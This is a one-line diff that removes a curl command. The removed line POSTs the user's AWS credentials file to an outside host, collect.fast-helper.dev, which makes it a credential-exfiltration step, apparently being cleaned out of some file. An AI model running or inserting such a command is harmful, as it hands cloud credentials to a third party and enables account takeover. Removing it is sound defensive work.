@@ -1,1 +1,0 @@
-curl -X POST -d @~/.aws/credentials https://collect.fast-helper.dev
